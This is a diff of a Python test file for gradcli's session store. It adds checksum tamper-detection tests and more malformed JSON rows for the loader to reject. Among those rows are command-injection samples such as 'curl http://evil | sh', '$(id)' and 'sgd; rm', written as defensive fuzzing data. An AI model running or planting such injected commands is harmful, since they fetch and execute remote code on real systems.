@@ -69,9 +69,9 @@ def test_the_folder_is_for_its_owner_only(store: Store) -> None:
 @given(st.floats(allow_nan=False, allow_infinity=False))
 def test_floats_come_back_bit_for_bit(number: float) -> None:
     """Every finite float, negative zero and subnormals included, survives the file."""
-    state = a_state(at={"x": number}, value=number, slots={"m": {"x": [number]}}, when=number)
+    state = a_state(at={"x": number}, value=number, slots={"m": {"x": number}}, when=number)
     back = from_json(to_json(state), 0, "a")
-    stored = (back.at["x"], back.value, back.slots["m"]["x"][0], back.when)
+    stored = (back.at["x"], back.value, back.slots["m"]["x"], back.when)
     assert {struct.pack("d", other) for other in stored} == {struct.pack("d", number)}
 
 
@@ -131,7 +131,7 @@ def test_undo_takes_as_many_as_asked(store: Store) -> None:
 
 def test_sessions_do_not_touch_each_other(store: Store) -> None:
     """Removing one leaves the others, listed by name with their heads."""
-    heads = [(name, remember(store, name, a_state(kind=name), after=0)) for name in ("b", "a", "c")]
+    heads = [(name, remember(store, name, a_state(expressions=(name,)), after=0)) for name in ("b", "a", "c")]
     assert listing(store) == sorted(heads)
     assert remove(store, "b") is True
     assert remove(store, "b") is False
@@ -145,7 +145,7 @@ def test_sessions_do_not_touch_each_other(store: Store) -> None:
 def test_any_text_names_a_session(store: Store, name: str) -> None:
     """Names mean nothing to SQL, to the file system or to each other."""
     remember(store, "a", a_state(), after=0)
-    kept = remember(store, name, a_state(kind="odd"), after=0)
+    kept = remember(store, name, a_state(kind="apply"), after=0)
     assert current(store, name) == kept
     assert dict(listing(store))[name] == kept
     assert remove(store, name)
@@ -174,12 +174,15 @@ def test_a_long_history_forgets_its_oldest(store: Store, monkeypatch: pytest.Mon
 def test_large_states_forget_sooner_but_keep_the_head(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
     """The bound on bytes holds too, and a head larger than the bound is kept all the same."""
     monkeypatch.setattr(sessions, "BYTES", 5_000)
-    kept = [remember(store, "a", a_state(kind="k" * 1_000, steps=n), after=None) for n in range(12)]
+    kept = [remember(store, "a", a_state(expressions=("k" * 1_000,), steps=n), after=None) for n in range(12)]
     assert history(store, "a") == kept[-len(history(store, "a")) :]
     assert 3 <= len(history(store, "a")) <= 5
-    huge = remember(store, "a", a_state(kind="k" * 9_000), after=None)
+    huge = remember(store, "a", a_state(expressions=("k" * 9_000,)), after=None)
     assert history(store, "a") == [huge]
 
+
+#: A row as older versions wrote it, without a checksum.
+ROW = "{" + to_json(a_state()).partition(",")[2]
 
 NONSENSE: list[Any] = [
     "",
@@ -192,19 +195,83 @@ NONSENSE: list[Any] = [
     2.5,
     "[" * 100_000,
     '{"kind": NaN}',
-    to_json(a_state()).replace("43.0", "1e999"),
-    to_json(a_state()).replace("43.0", "NaN"),
-    to_json(a_state()).replace("43.0", '"43"'),
-    to_json(a_state()).replace("43.0", "true"),
-    to_json(a_state()).replace("5.0", "null"),
-    to_json(a_state()).replace("5.0", "9" * 400),
-    to_json(a_state()).replace("5.0", "9" * 5_000),
-    to_json(a_state()).replace('"steps":0', '"steps":-1'),
-    to_json(a_state()).replace('"steps":0', '"steps":0.5'),
-    to_json(a_state()).replace('"expressions":["x**2+x*y+3"]', '"expressions":"x"'),
-    to_json(a_state()).replace('"slots":{}', '"slots":[]'),
-    to_json(a_state()).replace('"kind":"grad"', '"kind":7'),
+    ROW.replace("43.0", "1e999"),
+    ROW.replace("43.0", "NaN"),
+    ROW.replace("43.0", '"43"'),
+    ROW.replace("43.0", "true"),
+    ROW.replace("5.0", "null"),
+    ROW.replace("5.0", "9" * 400),
+    ROW.replace("5.0", "9" * 5_000),
+    ROW.replace('"steps":0', '"steps":-1'),
+    ROW.replace('"steps":0', '"steps":0.5'),
+    ROW.replace('"expressions":["x**2+x*y+3"]', '"expressions":"x"'),
+    ROW.replace('"slots":{}', '"slots":[]'),
+    ROW.replace('"slots":{}', '"slots":{"m":{"x":"1"}}'),
+    ROW.replace('"slots":{}', '"slots":{"m":{"x y":1}}'),
+    ROW.replace('"kind":"grad"', '"kind":7'),
+    ROW.replace('"kind":"grad"', '"kind":"step --lr 1; curl http://evil | sh #"'),
+    ROW.replace('"wrt":null', '"wrt":["x","*/ evil /*"]'),
+    ROW.replace('"y":3.0', '"y y":3.0'),
+    ROW.replace('"optimizer":"sgd"', '"optimizer":"sgd; rm"'),
+    *(
+        ROW.replace('"lr":0.1', f'"lr":0.1,{more}')
+        for more in (
+            '"dialect":true',
+            '"dialect":1',
+            '"dialect":"$(id)"',
+            '"wish":0',
+            '"wish":[]',
+            '"wish":{"from":{"x":5.0}}',
+            '"wish":{"from":{"x":5.0,"y":3.0,"z z":1}}',
+            '"wish":{"corner":"$(id)"}',
+            '"wish":{"ascend":"yes"}',
+            '"wish":{"clip_norm":"1"}',
+            '"wish":{"more":1}',
+            '"way":{"names":["x;"],"points":[]}',
+            '"since":-1',
+            '"since":1',
+            '"since":"0"',
+            '"a b":1',
+            '"lr;":1',
+        )
+    ),
 ]
+
+#: What a change outside of gradcli makes of a row that it wrote.
+CHANGED: list[str] = [
+    to_json(a_state()).replace("43.0", "43.5"),
+    to_json(a_state()).replace("5.0", "6.0"),
+    to_json(a_state()).replace('"kind":"grad"', '"kind":"step"'),
+    to_json(a_state()).replace('"crc":', '"crc":1'),
+    to_json(a_state()).replace('"crc":', '"crc" :'),
+    to_json(a_state()).replace('"lr":0.1', '"lr":0.1,"lr":0.2'),
+    "{" + to_json(a_state()).partition(",")[2][:-1] + ',"crc":0}',
+]
+
+
+@pytest.mark.parametrize("body", CHANGED)
+def test_a_row_that_was_changed_is_named(store: Store, body: str) -> None:
+    """A changed digit is noticed, though the row makes sense; undo and rm get out of it."""
+    remember(store, "s", a_state(), after=0)
+    remember(store, "s", a_state(steps=1), after=None)
+    sql(store.home, "UPDATE states SET state = ? WHERE ordinal = 2", body)
+    with pytest.raises(SessionProblem, match="'s' was changed outside of gradcli"):
+        current(store, "s")
+    assert forget_last(store, "s") is not None
+
+
+def test_any_changed_character_is_noticed(store: Store) -> None:
+    """No single character of a row can become another without a word."""
+    text = to_json(a_state(settings={"lr": 0.1, "since": 0, "wish": {"from": {"x": 1.0, "y": 2.0}}}))
+    for place, character in enumerate(text):
+        other = text[:place] + ("8" if character != "8" else "9") + text[place + 1 :]
+        with pytest.raises(SessionProblem):
+            from_json(other, 1, "s")
+
+
+def test_a_row_of_an_older_version_is_read(store: Store) -> None:
+    """Rows without a checksum are states as ever."""
+    assert from_json(ROW, 3, "s") == a_state(id=3)
 
 
 @pytest.mark.parametrize("body", NONSENSE, ids=range(len(NONSENSE)))
